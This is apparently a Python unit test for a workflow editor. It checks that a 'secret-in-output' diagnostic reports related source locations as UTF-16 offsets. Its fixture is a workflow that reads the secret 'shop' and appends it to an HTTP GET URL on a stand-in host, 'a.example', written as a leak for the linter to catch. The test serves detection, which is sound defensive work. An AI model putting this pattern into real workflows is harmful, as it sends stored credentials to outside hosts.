"""The places of diagnostics count UTF-16 units for pages: their own, and those on the way."""

from designer.workers.tasks.diagnostics import diagnostic_to_json
from workflow.definition import load
from workflow.editor.utf16 import Units

TEXT = """# \U0001f600
document: {dsl: 1.0.3, namespace: shop, name: leak, version: 1.0.0}
use: {secrets: [shop]}
do:
- one: {set: {key: '${ $secrets.shop }'}}
- two: {call: http, with: {method: get, endpoint: '${ "https://a.example/" + .key }'}}
"""


def test_the_way_of_a_secret_has_its_places_as_editors_count() -> None:
    found = [diagnostic_to_json(one, Units(TEXT)) for one in load(TEXT).diagnostics if one.rule == "secret-in-output"]
    units = TEXT.encode("utf-16-le")
    ways = [one["related"] for one in found]
    told = [[units[2 * place["from"] : 2 * place["to"]].decode("utf-16-le") for place in way] for way in ways]
    assert told == [["shop"], ["shop", "$secrets"]]
    assert [place["pointer"] for place in ways[1]] == ["/use/secrets/0", "/do/0/one/set/key"]
